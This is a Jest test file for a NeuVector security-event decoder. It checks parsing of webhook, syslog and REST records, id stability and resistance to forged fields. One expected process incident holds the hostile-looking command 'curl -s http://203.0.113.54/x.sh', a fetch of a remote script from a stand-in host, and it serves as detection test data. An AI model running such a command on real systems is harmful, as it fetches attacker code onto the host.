import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import type { Violation } from '@tocsin/domain';
import { parseSyslog } from '@tocsin/syslog';
import { received, runSourceContract, violations } from '../contract.js';
import { neuvector } from './neuvector.js';

interface Sample {
  meta: { n: number; form: string; content_type: string; category: string };
  body: unknown;
}
const fixture = (name: string): string => readFileSync(new URL(`fixtures/${name}`, import.meta.url), 'utf8');
const samples = fixture('events.jsonl')
  .trim()
  .split('\n')
  .map((line) => JSON.parse(line) as Sample);
const syslog = fixture('syslog.txt')
  .trim()
  .split('\n')
  .map((line) => parseSyslog(Buffer.from(line), 0).message);

const sample = (n: number): Sample => samples.find(({ meta }) => meta.n === n) as Sample;
const wire = ({ body }: Sample): string => (typeof body === 'string' ? body : JSON.stringify(body));
const decode = (body: string, settings: { ownUser?: string } = {}) => neuvector.create(settings, undefined).decode(Buffer.from(body), received());
const one = (body: unknown): Violation => violations(decode(typeof body === 'string' ? body : JSON.stringify(body)))[0] as Violation;
const record = (n: number): Record<string, unknown> => sample(n).body as Record<string, unknown>;

runSourceContract({
  type: 'neuvector',
  create: () => neuvector.create({}, undefined),
  good: [
    ...samples.map((item) => ({
      name: `sample ${item.meta.n} (${item.meta.form})`,
      body: wire(item),
      received: { contentType: item.meta.content_type },
    })),
    ...syslog.map((body, index) => ({ name: `syslog line ${index + 1}`, body, received: { contentType: '' } })),
  ],
  item: record(6),
});

describe('neuvector', () => {
  it.each(samples.map((item) => [item.meta.n, item.meta.category, item] as const))('infers the category of sample %s: %s', (_n, category, item) => {
    expect(one(wire(item)).labels?.['neuvector.category']).toBe(category);
  });

  it('decodes a process incident', () => {
    expect(one(record(6))).toMatchObject({
      kind: 'process',
      name: 'Process.Profile.Violation',
      message: 'Process profile violation',
      severity_id: 3,
      time: '2026-09-14T09:04:00.000Z',
      cluster: 'prod-eu-1',
      workload: { namespace: 'shop', name: 'storefront' },
      pod: { name: 'storefront-6d5f7c9b8d-x2lqp' },
      image: { name: 'registry.example.com/shop/storefront', tag: '4.18.2' },
      node: { name: 'worker-1' },
      user: { name: 'www-data', uid: 33 },
      process: { name: 'curl', path: '/usr/bin/curl', cmd_line: 'curl -s http://203.0.113.54/x.sh', parent: { name: 'sh' } },
      disposition: 'Detected',
      count: 1,
    });
  });

  it('decodes a network violation without the image of the sandbox', () => {
    const violation = one(record(1));
    expect(violation).toMatchObject({
      kind: 'network',
      name: 'Network.Violation',
      message: 'storefront-6d5f7c9b8d-x2lqp connected against policy to paste.example.net:443 (SSL)',
      workload: { namespace: 'shop', name: 'storefront' },
      src_endpoint: { ip: '10.42.1.37', workload: 'storefront', namespace: 'shop' },
      dst_endpoint: { ip: '203.0.113.54', port: 443, hostname: 'paste.example.net' },
      protocol: 'tcp',
      count: 3,
    });
    expect(violation.image).toBeUndefined();
    expect(violation.dst_endpoint).not.toHaveProperty('workload');
  });

  it('takes the attacker of a threat as its workload, whichever end the target is', () => {
    expect(one(record(3))).toMatchObject({
      kind: 'threat',
      disposition: 'Blocked',
      workload: { name: 'orders-api' },
      dst_endpoint: { workload: 'orders-db', port: 3306 },
    });
    expect(one({ ...record(3), target: 'client' }).workload.name).toBe('orders-db');
    const outside = { client_workload_id: 'external', client_workload_name: 'external' };
    expect(one({ ...record(3), ...outside }).workload.name).toBe('orders-db');
  });

  it("reads a process without a uid as root's", () => {
    const { proc_effective_uid: _u, proc_effective_user: _n, ...rest } = record(6);
    expect(one(rest).user).toEqual({ name: 'root', uid: 0 });
  });

  it('decodes a scan report by its repository', () => {
    expect(one(record(13))).toMatchObject({
      kind: 'vulnerability',
      severity_id: 5,
      image: { name: 'shop/storefront', tag: '4.18.2' },
      message: 'Registry.Scan.Report: critical: 0, high: 1, medium: 0',
      labels: { high_vuls: 'CVE-2024-2398', registry_name: 'corp-registry' },
    });
  });

  it('marks what a response did, so that it is not responded to', () => {
    expect(one(record(17)).labels).toMatchObject({ 'neuvector.response': 'quarantine', 'neuvector.response_reason': 'incident (rule 1003)' });
  });

  it('marks REST events of its own user', () => {
    const event = { ...record(17), name: 'RESTful.Write', user: 'tocsin' };
    expect(violations(decode(JSON.stringify(event), { ownUser: 'tocsin' }))[0]?.labels?.['tocsin.own']).toBe('true');
    expect(one(event).labels).not.toHaveProperty('tocsin.own');
  });

  it("recovers the record from JSON that a quote in the rule's comment broke", () => {
    const violation = one(wire(sample(22)));
    expect(violation).toMatchObject({
      name: 'Container.Privilege.Escalation',
      severity_id: 5,
      workload: { name: 'orders-api' },
      user: { name: 'root', uid: 0 },
      labels: { comment: 'call "red" team', 'neuvector.recovered': 'true' },
    });
    expect(violation.raw).toBe(wire(sample(22)));
    const whole = wire(sample(22)).replace('call "red" team', 'call red team');
    expect(one(whole).id).toBe(violation.id);
  });

  it('recovers a violation, which has no name, and is not fooled by a comment that looks like a record', () => {
    const broken = JSON.stringify(record(1)).replace('{"cluster":"prod-eu-1",', '{"cluster":"prod-eu-1","comment":"a","level":"Info","b" c",');
    expect(one(broken)).toMatchObject({ severity_id: 3, labels: { comment: 'a","level":"Info","b" c' } });
  });

  it.each([
    [19, 'Process.Profile.Violation', 5, 'Blocked'],
    [20, 'SQL.Injection', 5, 'Blocked'],
    [21, 'Network.Violation', 3, 'Detected'],
    [23, 'Container.Scan.Report', 5, 'Detected'],
  ])('reads the text in sample %s as lossy', (n, name, severity, disposition) => {
    const violation = one(wire(sample(n)));
    expect(violation).toMatchObject({ name, severity_id: severity, disposition });
    expect(violation.tags).toContain('lossy');
  });

  it('gives a record the same id by webhook, in text and by syslog', () => {
    const webhook = one(record(1)).id;
    expect(one(wire(sample(21))).id).toBe(webhook);
    expect(one(syslog[3] ?? '').id).toBe(webhook);
    expect(one(syslog[7] ?? '').id).toBe(webhook);
    expect(one(record(17)).id).toBe(one(syslog[8] ?? '').id);
  });

  it('does not let a command line forge fields of the text form', () => {
    const forged = one(syslog[6] ?? '');
    expect(forged).toMatchObject({
      name: 'Process.Profile.Violation',
      severity_id: 3,
      disposition: 'Detected',
      workload: { name: 'storefront' },
      labels: { 'neuvector.ambiguous': 'true' },
    });
    expect(one(syslog[3] ?? '').labels).not.toHaveProperty('neuvector.ambiguous');
  });

  it('reads container names of Docker and the header-less lines of the documentation', () => {
    expect(one(syslog[1] ?? '')).toMatchObject({ pod: { name: 'node-pod-7c57bdbf5d-dxkn4' }, workload: { namespace: 'default', name: 'node-pod' } });
    expect(one(syslog[2] ?? '')).toMatchObject({ kind: 'admission', user: { name: 'kubernetes-admin' } });
  });

  it('reads the lists of the REST log and tells the kinds apart by them', () => {
    const body = JSON.stringify({ threats: [record(3)], incidents: [record(6), null], violations: [record(1)] });
    expect(decode(body).map((entry) => ('kind' in entry ? entry.kind : entry.message))).toEqual([
      'network',
      'threat',
      'process',
      'is null, expected a record',
    ]);
    expect((decode(body)[2] as Violation).id).toBe(one(record(6)).id);
  });

  it('tells events apart that have no id', () => {
    expect(one({ ...record(17), message: 'user-configured' }).id).not.toBe(one(record(17)).id);
    expect(one({ ...record(17), workload_id: 'other' }).id).not.toBe(one(record(17)).id);
  });

  it.each([
    ['{"a":1}', 'is no NeuVector record'],
    ['hello', 'is neither JSON'],
    ['{"text":"hi"}', 'holds no "notification=…" record'],
  ])('refuses %s', (body, message) => {
    let found = '';
    try {
      found = (decode(body)[0] as Error).message;
    } catch (error) {
      found = (error as Error).message;
    }
    expect(found).toContain(message);
  });
});
